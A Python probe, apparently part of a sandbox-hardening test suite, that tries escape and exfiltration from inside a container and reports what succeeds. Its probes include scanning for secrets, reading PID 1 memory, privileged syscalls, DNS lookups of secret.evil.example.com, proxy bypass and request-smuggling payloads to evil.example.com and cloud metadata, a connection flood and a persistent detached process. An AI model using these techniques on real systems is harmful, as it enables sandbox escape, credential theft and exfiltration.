"""What a hostile tool tries, from inside its sandbox. It is told on standard input what to look for and where, and writes what it got.

Each attempt is harmless where it succeeds, so that the suite can be run once where nothing holds it: one that succeeds nowhere proves
nothing.
"""

import ctypes
import errno
import json
import os
import platform
import socket
import stat
import sys
import threading
import time

told = json.load(sys.stdin)
# They come backwards: what looks for a word must not be where it is found.
hunted = [word[::-1].encode() for word in told["hunted"]]
got, tried = {}, 0
libc = ctypes.CDLL(None, use_errno=True)
REFUSED = {errno.EPERM, errno.EACCES, errno.ENOSYS}


def attempt(name, deed):
    """Notes what a deed got, where it got anything."""
    global tried
    tried += 1
    try:
        found = deed()
    except OSError as error:
        found = None if error.errno in REFUSED | {errno.ENOENT, errno.ESRCH} else found_error(name, error)
    if found:
        got[name] = found


def found_error(name, error):
    # A deed whose refusal is something else says so itself, by catching it.
    return f"{name}: {errno.errorcode.get(error.errno, error)}"


def contents(path, most=4 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(most)
    except OSError:
        return b""


def holds(data):
    return any(word in data for word in hunted)


# --- what other processes and files hold


def processes():
    mine = str(os.getpid())
    pids = [pid for pid in os.listdir("/proc") if pid.isdigit() and pid != mine]
    return [pid for pid in pids if any(holds(contents(f"/proc/{pid}/{name}")) for name in ("environ", "cmdline", "comm"))]


def files():
    found, sockets = [], []
    for folder, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys")]
        for path in (os.path.join(folder, name) for name in names):
            try:
                mode = os.lstat(path).st_mode
            except OSError:
                continue
            if stat.S_ISSOCK(mode):
                sockets.append(path)
            elif stat.S_ISREG(mode) and holds(contents(path)):
                found.append(path)
    return found + [path for path in sockets if answers_unix(path)]


def answers_unix(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1)
        try:
            client.connect(path)
            return True
        except OSError:
            return False


def abstract_sockets():
    lines = contents("/proc/net/unix").decode("utf-8", "replace").splitlines()
    names = {line.split()[-1] for line in lines[1:] if line.split()[-1].startswith("@")}
    return [name for name in names if answers_unix("\0" + name[1:])]


def first_process():
    """Whether anything of PID 1 can be read: it had the credential, and has the stream to the gateway."""
    found = []
    for name in ("environ", "mem", "maps", "auxv", "stack", "syscall", "io", "fd", "fdinfo", "map_files", "root", "cwd", "exe", "ns/net"):
        path = f"/proc/1/{name}"
        try:
            if name in ("fd", "fdinfo", "map_files"):
                os.listdir(path)
            elif name in ("root", "cwd", "exe", "ns/net"):
                os.readlink(path)
            else:
                with open(path, "rb") as file:
                    file.read(1)
            found.append(name)
        except OSError:
            pass
    return found


def terminals_and_descriptors():
    """Descriptors that are not pipes of ours, and devices that lead out."""
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:") or target.startswith("/dev/pts"):
            found.append(target)
    for device in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kcore", "/proc/kmsg", "/dev/fuse", "/dev/kvm"):
        try:
            with open(device, "rb"):
                found.append(device)
        except OSError:
            pass
    return found


# --- what the kernel would do for it

NUMBERS = {
    "x86_64": dict(
        ptrace=101, process_vm_readv=310, pidfd_open=434, pidfd_getfd=438, mount=165, unshare=272, setns=308, chroot=161, pivot_root=155,
        mknodat=259, bpf=321, perf_event_open=298, keyctl=250, userfaultfd=323, open_by_handle_at=304, kexec_load=246, init_module=175,
        io_uring_setup=425, fsopen=430, open_tree=428, kcmp=312, settimeofday=164,
    ),
    "aarch64": dict(
        ptrace=117, process_vm_readv=270, pidfd_open=434, pidfd_getfd=438, mount=40, unshare=97, setns=268, chroot=51, pivot_root=41,
        mknodat=33, bpf=280, perf_event_open=241, keyctl=219, userfaultfd=282, open_by_handle_at=265, kexec_load=104, init_module=105,
        io_uring_setup=425, fsopen=430, open_tree=428, kcmp=272, settimeofday=170,
    ),
}[platform.machine()]  # fmt: skip


def syscall(name, *arguments):
    """In a process of its own, which takes with it what it changes for itself: whether the kernel let it come that far."""
    child = os.fork()
    if child == 0:
        arguments = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
        result = libc.syscall(NUMBERS[name], *arguments)
        os._exit(1 if result >= 0 or ctypes.get_errno() not in REFUSED else 0)
    _, status = os.waitpid(child, 0)
    # A seccomp filter may kill: that is a refusal too.
    return os.waitstatus_to_exitcode(status) == 1 and name


def read_memory_of(pid):
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(8)
    local, remote = Vector(ctypes.addressof(buffer), 8), Vector(0x1000, 8)
    return syscall("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


def take_descriptor():
    pidfd = libc.syscall(NUMBERS["pidfd_open"], 1, 0)
    return pidfd >= 0 and any(libc.syscall(NUMBERS["pidfd_getfd"], pidfd, fd, 0) >= 0 for fd in range(16))


def become_root():
    if os.getuid() == 0:
        return "root already"
    for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
        try:
            change()
            return "changed"
        except OSError:
            pass
    return None


def kernel():
    path = ctypes.c_char_p(b"/proc/1/ns/net")
    SEIZE, NEWUSER, NEWNET, NEWNS, BLOCK = 0x4206, 0x10000000, 0x40000000, 0x00020000, 0o60600
    for name, arguments in {
        "ptrace": (SEIZE, 1, 0, 0),
        "mount": (ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"tmpfs"), 0, 0),
        "chroot": (ctypes.c_char_p(b"/tmp"),),
        # Of the whole namespace: with nothing named, so that it stays where it is.
        "pivot_root": (0, 0),
        "mknodat": (-100, ctypes.c_char_p(b"/tmp/disk"), BLOCK, 0x800),
        "bpf": (0, 0, 0),
        "perf_event_open": (0, 0, -1, -1, 0),
        "keyctl": (0, -3, 0),
        "userfaultfd": (0,),
        "open_by_handle_at": (-100, 0, 0),
        "kexec_load": (0, 0, 0, 0),
        "init_module": (0, 0, 0),
        "io_uring_setup": (1, 0),
        "fsopen": (ctypes.c_char_p(b"tmpfs"), 0),
        "open_tree": (-100, ctypes.c_char_p(b"/"), 1),
        "kcmp": (1, os.getpid(), 0, 0, 0),
        "settimeofday": (0, 0x1),
    }.items():
        attempt(name, lambda name=name, arguments=arguments: syscall(name, *arguments))
    for name, flag in (("user", NEWUSER), ("network", NEWNET), ("mounts", NEWNS)):
        attempt(f"a {name} namespace of its own", lambda flag=flag: syscall("unshare", flag))
    attempt("the namespace of PID 1", lambda: syscall("setns", os.open(path.value, os.O_RDONLY), 0))
    attempt("memory of PID 1", lambda: read_memory_of(1))
    attempt("a descriptor of PID 1", take_descriptor)
    attempt("root", become_root)


# --- what is around it


def families():
    """Sockets that are neither TCP, UDP nor unix: netlink, vsock, packet, alg and all the others."""
    found = []
    for family in range(46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            if family in (socket.AF_UNIX,) or (family in (socket.AF_INET, socket.AF_INET6) and kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)):
                continue
            try:
                socket.socket(family, kind).close()
                found.append(f"{family}/{kind}")
            except OSError:
                pass
    return found


def reached(place):
    host, port = place.rsplit(":", 1)
    try:
        with socket.create_connection((host.strip("[]"), int(port)), 2) as client:
            client.sendall(b"\0evil\r\n\r\n")
            return True
    except OSError:
        return False


def places():
    """Everything that is not listed, at once."""
    found = []
    threads = [threading.Thread(target=lambda place=place: reached(place) and found.append(place)) for place in told["places"]]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return found


def names():
    """Whether a name outside is looked up for it, and so carries what it says."""
    found = []
    try:
        socket.getaddrinfo("secret.evil.example.com", 443)
        found.append("the resolver")
    except OSError:
        pass
    servers = [line.split()[1] for line in contents("/etc/resolv.conf").decode().splitlines() if line.startswith("nameserver ")]
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04evil\x07example\x03com\0\0\x01\0\x01"
    for server in {*servers, "127.0.0.11", "127.0.0.53", "10.96.0.10", "1.1.1.1", "2606:4700:4700::1111"}:
        try:
            with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.settimeout(1)
                client.sendto(question, (server, 53))
                client.recv(512)
                found.append(server)
        except OSError:
            pass
    return found


def say(host, port, said):
    """What comes back. A place that cannot be connected to says nothing."""
    heard = b""
    try:
        with socket.create_connection((host, port), 2) as client:
            client.settimeout(1)
            client.sendall(said)
            while piece := client.recv(4096):
                heard += piece
    except OSError:
        pass
    return heard


def proxy():
    """Ways to talk the wall into something that is not listed."""
    listed, port = told["listed"].rsplit(":", 1)
    evil = [
        b"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\n",
        b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT [::ffff:169.254.169.254]:80 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT 2852039166:80 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET http://evil.example.com/ HTTP/1.1\r\nHost: %s\r\n\r\n" % told["listed"].encode(),
        b"GET http://%s@evil.example.com/ HTTP/1.1\r\nHost: x\r\n\r\n" % told["listed"].encode(),
        b"GET http://%s:%s.evil.example.com/ HTTP/1.1\r\nHost: x\r\n\r\n" % (listed.encode(), port.encode()),
        b"GET http://%s/ HTTP/1.1\r\nHost: evil.example.com\r\nHost: %s\r\n\r\n" % (told["listed"].encode(), told["listed"].encode()),
        b"GET /evil HTTP/1.1\r\nHost: evil.example.com\r\n\r\n",
        b"GET http://127.0.0.1:%d/evil HTTP/1.1\r\nHost: x\r\n\r\n" % told["gateway"],
    ]
    found = [said.decode() for said in evil if b" 200 " in say(*told["proxy"], said)[:16]]
    # A second request inside the first one's body, for a reader that goes by the other length.
    smuggled = b"POST http://%s/ HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\nHost: y\r\n\r\n"
    say(*told["proxy"], smuggled % told["listed"].encode())
    # The name of somebody else, on a connection to where it may go: in HTTP, and in the greeting of TLS.
    say(listed, int(port), b"GET /evil HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
    say(listed, int(port), greeting(b"evil.example.com"))
    return found


def greeting(name):
    """A ClientHello (RFC 8446, 4.1.2) that asks for this name."""
    entry = b"\0" + len(name).to_bytes(2, "big") + name
    names = len(entry).to_bytes(2, "big") + entry
    extension = b"\0\0" + len(names).to_bytes(2, "big") + names
    body = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0" + len(extension).to_bytes(2, "big") + extension
    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(handshake).to_bytes(2, "big") + handshake


def flood():
    """As many connections as it gets, held for a while. What it got shows afterwards: the wall still answers."""
    listed, port = told["listed"].rsplit(":", 1)
    held = []
    try:
        for _ in range(3000):
            held.append(socket.socket())
            held[-1].setblocking(False)
            held[-1].connect_ex((listed, int(port)))
    except OSError:
        pass
    for client in held:
        client.close()
    time.sleep(0.5)
    return [] if b" 200 " in say(*told["proxy"], b"GET http://%s/ HTTP/1.1\r\nHost: x\r\n\r\n" % told["listed"].encode())[:16] else "the wall is down"


def stay():
    """Somebody who outlives the tool, and says so where it may."""
    # It can, as long as its call runs: a place that never answers proves nothing later.
    in_time = ask_with_a_credential(b"/in-time")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(3):
                os.close(fd)
            time.sleep(1)
            while True:
                ask_with_a_credential(b"/late")
        os._exit(0)
    return [] if b" 200 " in in_time[:16] else "the wall is down"


def ask_with_a_credential(path):
    """What comes back from where the wall adds one."""
    host, port = told["injected"].rsplit(":", 1)
    return say(host, int(port), b"GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, host.encode()))


attempt("processes", processes)
attempt("files", files)
attempt("abstract sockets", abstract_sockets)
attempt("PID 1", first_process)
attempt("devices", terminals_and_descriptors)
kernel()
attempt("socket families", families)
attempt("places", places)
attempt("names", names)
attempt("the proxy", proxy)
if told["listed"].startswith("listed."):
    attempt("a flood", flood)
    attempt("outliving the call", stay)
json.dump({"tried": tried, "got": got}, sys.stdout)
